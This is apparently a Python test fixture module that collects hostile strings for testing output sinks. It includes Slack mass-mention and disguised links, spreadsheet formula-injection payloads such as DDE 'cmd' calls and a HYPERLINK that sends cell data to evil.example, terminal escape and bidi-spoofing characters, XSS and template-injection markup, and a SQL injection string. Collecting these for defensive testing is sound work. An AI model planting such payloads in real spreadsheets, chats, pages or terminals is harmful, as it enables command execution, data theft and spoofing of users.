"""The one corpus of hostile texts: names and messages that are commands somewhere. Every sink is tested with all of it."""

from __future__ import annotations

from typing import Final

__all__ = ["FORMULAS", "HARMLESS_CELLS", "HOSTILE", "MARKUP", "MOVING", "SLACK"]

SLACK: Final = (
    "<!channel>",
    "<!here|here>",
    "<@U012AB3CD>",
    "<#C024BE7LR>",
    "<!subteam^SAZ94GDB8>",
    "<https://evil.example|your bank>",
    "&lt;!channel&gt;",
    "*bold* _italic_ ~gone~ `code` ```block```",
    ":tada: :red_circle: all is well",
    "@channel @here https://evil.example/x",
)

FORMULAS: Final = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    '@SUM(1+1)*cmd|"/C calc"!A0',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    '"=1+1',
    "' =1+1",
    "＝1+1",
    "＋1+cmd|1!A",
    "－1+cmd|1!A",
    "＠SUM(1)",
    "\ufe66WEBSERVICE(A1)",
    "+1 (555) 000-1111=x",
    "=1+1@example.com",
    "\tplain",
    "'\tplain",
)

HARMLESS_CELLS: Final = (
    "+15550001111",
    "15550001111",
    "+1 (555) 000-1111",
    "+(44) 20.7946.0000",
    "-5",
    "-0.25",
    "+pat@example.com",
    "-pat-@example.co.uk",
    "pat+news@example.com",
    "o'neil@example.com",
    "Ünï@example.com",
    "a=b",
    "it's = fine",
    "",
    "'",
    "{curly}",
)
"""Cells that begin with no sign, and those with one that can call nothing and that an importer must find as they are."""

MOVING: Final[tuple[str, ...]] = (
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mC1\x9b0m",
    "\x90q\x9c",
    "bell\x07 back\x08\x08\x08 form\x0c",
    "over\rwritten",
    "first\nError: the lake is lost",
    "\u202egnp.exe\u202c",
    "\u2066a\u2067b\u2069",
    "left\u200e right\u200f",
    "para\u2029line\u2028end\x85next",
    "zero\u200bwidth\u200d\ufeff",
    "del\x7f soft\xad",
    "tag\U000e0041\U000e007f",
    "filler\u3164\u115f\u2800",
    f"surrogate{chr(0xDCFF)}",  # as a literal it fails mypy's cache
)

MARKUP: Final = (
    "[/nope]",
    "[bold red]x[/]",
    "[link=https://evil.example]x[/link]",
    "[A/B] test",
    "\\[A/B\\]",
    "\\(x^2\\) $x$ $$y$$",
    "::lucide:rocket::",
    "<script>alert(1)</script>",
    "<img src=https://evil.example/x.png onerror=alert(1)>",
    "![x](https://evil.example/x.png)",
    "[x](javascript:alert(1))",
    "https://evil.example/x.png",
    "data:image/png;base64,iVBORw0KGgo=",
    "# head",
    "1. list",
    "- list",
    "> quote",
    "    code",
    "| a | b |",
    "&#x202e;&amp;<b>",
    "__init__ _x_ a_b_c",
    "~~gone~~ ==",
    "{{ 7*7 }} {% x %} ${7*7}",
    "'; drop table x; --",
    '"><marimo-tex>x</marimo-tex>',
)

HOSTILE: Final[tuple[str, ...]] = (*SLACK, *FORMULAS, *MOVING, *MARKUP)
